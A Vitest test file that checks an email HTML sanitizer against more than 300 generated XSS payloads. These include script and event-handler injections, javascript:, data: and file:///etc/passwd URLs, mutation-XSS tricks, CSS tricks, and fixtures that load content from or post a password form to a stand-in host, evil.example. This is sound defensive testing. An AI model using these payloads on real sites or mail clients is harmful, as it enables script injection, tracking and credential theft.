// @vitest-environment jsdom
import { expect, test } from 'vitest'
import { cleanMailHtml } from './clean-mail-html.ts'

const clean = (html: string, files?: Map<string, number>) => cleanMailHtml(html, files)!

const elements = [
  'img',
  'svg',
  'iframe',
  'object',
  'embed',
  'video',
  'body',
  'input',
  'details',
  'math',
  'base',
  'link',
]
const handlers = [
  'onload',
  'onerror',
  'onclick',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'OnMouseOver',
  'formaction',
]
const urls = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '&#106;avascript:alert(1)',
  ' javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'file:///etc/passwd',
  'blob:https://example.com/1',
]
const fixed = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<p style="background:url(https://evil.example/p.gif)">x</p>',
  '<p style="width: expression(alert(1))">x</p>',
  '<p style="behavior:url(#x)">x</p>',
  '<p style="-moz-binding:url(https://evil.example/x.xml)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
  '<table background="https://evil.example/p.gif"><tr><td background="//evil.example/p.gif">x',
  '<img srcset="https://evil.example/p.gif 1x" src="cid:none">',
  '<picture><source srcset="https://evil.example/p.gif"><img></picture>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<p id="app" class="modal" name="x">x</p>',
  '<a href="https://ok.example" ping="https://evil.example">x</a>',
  '<a target="_top" href="https://ok.example">x</a>',
  '<img src="https://evil.example/p.gif" onerror="alert(1)" loading="eager">',
]
const payloads = [
  ...fixed,
  ...elements.flatMap(element =>
    handlers.flatMap(handler => [
      `<${element} ${handler}=alert(1)>x`,
      `<${element}/${handler}="alert(1)" src=x data=x>x</${element}>`,
    ]),
  ),
  ...urls.flatMap(url => [
    `<a href="${url}">x</a>`,
    `<img src="${url}">`,
    `<img src="https://a.example/b.png" data-src="${url}">`,
    `<iframe src="${url}"></iframe>`,
    `<p style="background-image: url('${url}')">x</p>`,
    `<td background="${url}">x</td>`,
    `<form action="${url}"><button formaction="${url}">x</button></form>`,
    `<object data="${url}"></object>`,
  ]),
]

/** Attributes by which a page loads a file or runs a script. */
const isAllowed = (name: string, value: string) => {
  if (name === 'href') return /^(https?|mailto|tel):/.test(value)
  if (name === 'src') return /^data:image\/(png|jpeg|gif|webp);base64,/.test(value)
  if (name === 'data-src') return /^https?:\/\//.test(value)
  if (name === 'style') return !/[(\\@]|position|expression|behavior|binding/i.test(value)
  return /^(data-file|target|rel|title|alt|align|valign|width|height|bgcolor|border|dir|lang|colspan|rowspan|start|type|color|face|size|cellpadding|cellspacing)$/.test(
    name,
  )
}

test(`${payloads.length} payloads leave nothing that runs or loads`, () => {
  expect(payloads.length).toBeGreaterThanOrEqual(300)
  for (const payload of payloads) {
    for (const text of [payload, `<div>${payload}</div>`, `</p></div></table>${payload}`]) {
      const { html } = clean(text)
      // A browser reads it twice, as a page and as the content of an element.
      const pages = [new DOMParser().parseFromString(html, 'text/html').body]
      const element = document.createElement('div')
      element.innerHTML = html
      pages.push(element)
      for (const page of pages)
        for (const node of page.querySelectorAll('*')) {
          expect(node.localName, payload).not.toMatch(
            /^(script|style|iframe|object|embed|svg|math|form|input|button|link|meta|base|video|audio|source|template|textarea|noscript)$/,
          )
          for (const { name, value } of node.attributes)
            expect([payload, name, value, isAllowed(name, value)]).toEqual([
              payload,
              name,
              value,
              true,
            ])
        }
      expect(clean(html).html, payload).toBe(html)
    }
  }
})

test('images of other servers are counted and not loaded', () => {
  const { html, remoteImageCount } = clean(
    '<p>Hi</p><img src="https://a.example/p.gif?u=1" alt="Logo"><img src="//b.example/c.png" width="1">',
  )
  expect(remoteImageCount).toBe(2)
  expect(html).toBe(
    '<p>Hi</p><img alt="Logo" data-src="https://a.example/p.gif?u=1" /><img width="1" data-src="https://b.example/c.png" />',
  )
})

test('images in the email have the position of their file', () => {
  const files = new Map([['logo@a.example', 3]])
  expect(clean('<img src="cid:logo@a.example"><img src="CID:logo%40a.example">', files).html).toBe(
    '<img data-file="3" /><img data-file="3" />',
  )
  expect(clean('<img data-file="3"><img src="cid:logo@a.example" data-file="4">', files).html).toBe(
    '<img /><img data-file="3" />',
  )
  expect(clean('<img src="cid:other@a.example"><img src="cid:%">', files).html).toBe(
    '<img /><img />',
  )
})

test('the look of an email stays', () => {
  const html =
    '<table width="600" cellpadding="0"><tbody><tr><td align="center" style="color:#333;background-color:rgb(1, 2, 3);padding:4px">Hello <b>Ann</b></td></tr></tbody></table>'
  expect(clean(html).html).toBe(html)
  expect(clean('<a href="https://a.example/x?y=1&z=2" title="T">x</a>').html).toBe(
    '<a href="https://a.example/x?y=1&amp;z=2" target="_blank" rel="noopener noreferrer nofollow" title="T">x</a>',
  )
})

test.each([
  ['long', `<p>${'x'.repeat(2_000_000)}</p>`],
  ['with many tags', '<p>x</p>'.repeat(20_000)],
])('HTML that is %s is not shown', (_name, html) => {
  expect(cleanMailHtml(html)).toBeUndefined()
})

test.each(['<div>', '<b><i>', '<a href="', '<table><td style="color:red">', '<!--'])(
  'many %s take little time',
  part => {
    const startedAt = performance.now()
    expect(clean(part.repeat(14_000))).toBeDefined()
    expect(performance.now() - startedAt).toBeLessThan(60_000)
  },
)
